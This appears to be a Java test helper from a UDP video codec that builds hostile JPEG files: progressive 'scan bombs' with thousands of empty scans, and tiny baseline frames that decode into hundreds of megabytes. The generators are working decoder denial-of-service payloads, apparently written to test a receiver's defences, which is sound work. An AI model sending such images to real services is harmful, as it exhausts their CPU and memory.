package udpvideo.codec.jpeg;

import java.io.ByteArrayOutputStream;
import java.util.Arrays;

/**
 * JPEGs an attacker assembles byte by byte, all real ones that decode to a single shade of grey: scan bombs, and
 * huge baseline frames.
 *
 * <p>A scan bomb is a progressive JPEG that makes a decoder walk every 8x8 block of a large image once per scan.
 * A 4096 x 4096 one with 1,000 scans fits in one datagram. The first scan codes each block's DC value as "no
 * change" (a 1-bit Huffman code, so 1 bit a block: 32 KB for 4096 x 4096); every further scan codes all 63 AC
 * values of every block as zero with a few end-of-band runs (EOBRUN, 27,306 blocks each): 30 bytes a scan for
 * 4096 x 4096. ImageIO decodes one without a warning, slowly: that is the attack.
 */
public final class HostileJpegs {
    private static final int SOI = 0xD8;
    private static final int EOI = 0xD9;
    private static final int DQT = 0xDB;
    private static final int DHT = 0xC4;
    private static final int SOS = 0xDA;
    /** Progressive, Huffman coded. */
    public static final int SOF2 = 0xC2;
    /**
     * The run of all-zero blocks each code of a scan says: symbol E0 (EOB14, 16,384 blocks and more) and 14 more
     * bits, here 10 1010 1010 1010 (10,922): alternate bits never make a byte FF, which would need a 00 after it.
     */
    private static final int EOB_RUN = (1 << 14) + 0x2AAA;

    private HostileJpegs() {
    }

    /** A progressive {@code width} x {@code height} grey JPEG of {@code scans} scans. */
    public static byte[] progressive(int width, int height, int scans) {
        return withFrameMarker(SOF2, width, height, scans);
    }

    /**
     * The same bytes with another start-of-frame marker: SOF0 makes a baseline JPEG of many scans (which decoders
     * refuse as such), SOF3, SOF5 or SOF9 a lossless, hierarchical or arithmetic-coded one in name.
     */
    public static byte[] withFrameMarker(int sofMarker, int width, int height, int scans) {
        if (scans < 1) {
            throw new IllegalArgumentException("a JPEG has at least one scan, was " + scans);
        }
        int blocks = ((width + 7) / 8) * ((height + 7) / 8);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        marker(out, SOI);
        segment(out, DQT, table(0, 64, 1));
        segment(out, sofMarker, new byte[] {8, (byte) (height >> 8), (byte) height, (byte) (width >> 8),
            (byte) width, 1, 1, 0x11, 0});
        segment(out, DHT, huffmanTable(0x00, 0x00)); // DC table 0: one 1-bit code, "difference 0"
        segment(out, DHT, huffmanTable(0x10, 0xE0)); // AC table 0: one 1-bit code, EOB14 (a run of blocks)
        segment(out, SOS, new byte[] {1, 1, 0x00, 0, 0, 0}); // DC, first pass, no successive approximation
        out.writeBytes(dcScan(blocks));
        for (int i = 1; i < scans; i++) {
            segment(out, SOS, new byte[] {1, 1, 0x00, 1, 63, 0}); // AC 1..63, first pass: every block zero
            out.writeBytes(acScan(blocks));
        }
        marker(out, EOI);
        return out.toByteArray();
    }

    /**
     * A baseline colour JPEG of {@code width} x {@code height} (4:2:0, one scan, as a video sender writes it) that
     * costs 2 bits a block, "no change" and "end of block": 8192 x 8192 is 393 KB, 7 datagrams, and decodes into
     * 256 MB as {@code TYPE_INT_RGB}.
     */
    public static byte[] flatBaseline(int width, int height) {
        int mcus = ((width + 15) / 16) * ((height + 15) / 16);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        marker(out, SOI);
        segment(out, DQT, table(0, 64, 1));
        segment(out, JpegHeader.SOF0, new byte[] {8, (byte) (height >> 8), (byte) height, (byte) (width >> 8),
            (byte) width, 3, 1, 0x22, 0, 2, 0x11, 0, 3, 0x11, 0});
        segment(out, DHT, huffmanTable(0x00, 0x00)); // DC table 0: one 1-bit code, "difference 0"
        segment(out, DHT, huffmanTable(0x10, 0x00)); // AC table 0: one 1-bit code, end of block
        segment(out, SOS, new byte[] {3, 1, 0x00, 2, 0x00, 3, 0x00, 0, 63, 0});
        Bits bits = new Bits();
        for (int i = 0; i < mcus * 6; i++) { // 4 luma blocks and 2 chroma blocks an MCU
            bits.put(0, 2);
        }
        out.writeBytes(bits.finish());
        marker(out, EOI);
        return out.toByteArray();
    }

    /** One 0 bit per block: every DC difference is zero. */
    private static byte[] dcScan(int blocks) {
        Bits bits = new Bits();
        for (int i = 0; i < blocks; i++) {
            bits.put(0, 1);
        }
        return bits.finish();
    }

    /**
     * End-of-band runs covering every block: code "0" for EOB14, then the run's low 14 bits. The last run may
     * overshoot the image; a decoder forgets what is left of a run at the end of a scan.
     */
    private static byte[] acScan(int blocks) {
        Bits bits = new Bits();
        for (int left = blocks; left > 0; left -= EOB_RUN) {
            bits.put(0, 1);
            bits.put(EOB_RUN - (1 << 14), 14);
        }
        return bits.finish();
    }

    private static byte[] table(int id, int entries, int value) {
        byte[] table = new byte[1 + entries];
        table[0] = (byte) id;
        Arrays.fill(table, 1, table.length, (byte) value);
        return table;
    }

    /** A Huffman table of one symbol, coded as the single bit 0. */
    private static byte[] huffmanTable(int classAndId, int symbol) {
        byte[] table = new byte[1 + 16 + 1];
        table[0] = (byte) classAndId;
        table[1] = 1; // one code of length 1
        table[17] = (byte) symbol;
        return table;
    }

    private static void marker(ByteArrayOutputStream out, int marker) {
        out.write(0xFF);
        out.write(marker);
    }

    private static void segment(ByteArrayOutputStream out, int marker, byte[] payload) {
        marker(out, marker);
        out.write((payload.length + 2) >> 8);
        out.write(payload.length + 2);
        out.writeBytes(payload);
    }

    /** Huffman-coded data, most significant bit first, with a 00 after every FF and 1s to pad the last byte. */
    private static final class Bits {
        private final ByteArrayOutputStream out = new ByteArrayOutputStream();
        private int current;
        private int used;

        void put(int value, int count) {
            for (int i = count - 1; i >= 0; i--) {
                current = current << 1 | (value >> i & 1);
                if (++used == 8) {
                    flush();
                }
            }
        }

        byte[] finish() {
            while (used != 0) {
                put(1, 1);
            }
            return out.toByteArray();
        }

        private void flush() {
            out.write(current);
            if (current == 0xFF) {
                out.write(0x00);
            }
            current = 0;
            used = 0;
        }
    }
}
